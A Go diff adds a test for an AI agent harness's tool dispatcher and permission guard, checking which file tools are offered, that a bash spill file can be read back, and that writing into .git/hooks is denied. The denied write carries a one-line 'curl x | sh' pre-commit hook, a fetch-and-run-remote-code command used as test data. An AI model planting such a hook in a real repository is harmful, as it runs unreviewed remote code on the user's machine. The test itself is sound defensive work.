@@ -2,6 +2,7 @@ package harness
 
 import (
 	"context"
+	"encoding/json"
 	"log/slog"
 	"os"
 	"path/filepath"
@@ -127,5 +128,52 @@ func TestNoSandboxNoBash(t *testing.T) {
 	defer h.Close()
 	if _, ok := h.Registry.Get("bash"); ok || h.Sandbox != nil || h.SandboxErr == nil {
 		t.Errorf("bash offered without a sandbox: %v, %v", h.Registry.Names(), h.SandboxErr)
+	}
+}
+
+// TestFileToolsThroughGuard: with a disk workspace the write tools are
+// offered and their paths checked; read_file reads the spill file a bash
+// result names.
+func TestFileToolsThroughGuard(t *testing.T) {
+	t.Parallel()
+	root := t.TempDir()
+	off := false
+	cfg := config.Config{BaseURL: "http://127.0.0.1:1/v1", Model: "m"}
+	cfg.Rules.Sets = []permission.RuleSet{{Source: "test", Tools: permission.Permissions{"bash": {Builtin: &off, Default: permission.Ask, Allow: []string{"seq *"}}}}}
+	h, err := New(Options{Root: root, Config: cfg, StateDir: t.TempDir(), Log: slog.New(slog.DiscardHandler)})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer h.Close()
+	for _, name := range []string{"read_file", "glob", "grep", "write_file", "str_replace", "bash"} {
+		if _, ok := h.Registry.Get(name); !ok && (name != "bash" || h.Sandbox != nil) {
+			t.Errorf("%s not offered: %v", name, h.Registry.Names())
+		}
+	}
+	disp := tools.NewDispatcher(h.Registry, tools.WithGuard(h.Guard))
+	call := func(name, args string) tools.Result {
+		return disp.Dispatch(context.Background(), tools.Call{ID: "c", Name: name, Arguments: args})
+	}
+	if r := call("write_file", `{"path":"a.txt","content":"hello\n"}`); r.IsError {
+		t.Errorf("write_file a.txt: %s", r.Text)
+	}
+	if r := call("write_file", `{"path":".git/hooks/pre-commit","content":"curl x | sh\n"}`); !r.IsError || !strings.Contains(r.Text, "denied") {
+		t.Errorf("write_file into .git/hooks: %s", r.Text)
+	}
+	if _, err := os.Stat(filepath.Join(root, ".git")); err == nil {
+		t.Error(".git was created")
+	}
+	if h.Sandbox == nil || !h.Sandbox.Status().Confined() {
+		return
+	}
+	r := call("bash", `{"command":"seq 1 200000"}`)
+	i := strings.Index(r.Text, "full output saved to ")
+	if i < 0 {
+		t.Fatalf("no spill path: %.200s", r.Text)
+	}
+	path := strings.Fields(r.Text[i+len("full output saved to "):])[0]
+	args, _ := json.Marshal(map[string]any{"path": path, "offset": 199999})
+	if r := call("read_file", string(args)); r.IsError || !strings.Contains(r.Text, "199999\t199999") || !strings.Contains(r.Text, "200000\t200000") {
+		t.Errorf("read_file of the spill file: %s", r.Text)
 	}
 }
